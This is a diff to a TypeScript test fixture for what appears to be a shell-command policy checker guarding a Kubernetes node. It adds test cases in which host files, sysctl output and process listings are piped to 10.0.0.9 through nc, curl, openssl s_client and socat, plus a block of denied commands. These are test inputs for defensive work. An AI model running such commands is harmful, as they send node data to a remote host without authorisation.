@@ -31,6 +31,13 @@ export const uploads: readonly ArgumentCase[] = [
     sysctl -a | nc 10.0.0.9 9000
     tail -n 9 /host/var/log/syslog | ssh 10.0.0.9
     cat /host/etc/hostname | frobnicate 10.0.0.9
+    cat /host/etc/hostname | awk 1 | nc 10.0.0.9 9000
+    cat /host/etc/hostname | base64 | openssl s_client -connect 10.0.0.9:443
+    echo x | cat /host/etc/hostname | nc 10.0.0.9 9000
+    cat /host/etc/hostname | chroot /host nc 10.0.0.9 9000
+    cat /host/etc/hostname | xargs curl http://10.0.0.9
+    curl -s file:///host/etc/hostname | nc 10.0.0.9 9000
+    lsof -nP | curl -T - http://10.0.0.9
     `,
   ),
   ...casesOf(
@@ -92,6 +99,17 @@ export const uploads: readonly ArgumentCase[] = [
     ls / | socat - TCP:10.0.0.9:9000
     `,
     'pod',
+  ),
+  ...casesOf(
+    'deny',
+    'own: programs outside the catalogue that send nothing of the node',
+    `
+    echo Q | openssl s_client -connect 10.0.0.1:443
+    printf 'EHLO x' | nc -w 2 10.0.0.1 25
+    cat /host/etc/hostname | awk 1
+    journalctl -u kubelet -n 9 | sed s/a/b/
+    cat /host/etc/hostname | base64 | md5sum
+    `,
   ),
   ...casesOf(
     'allow',
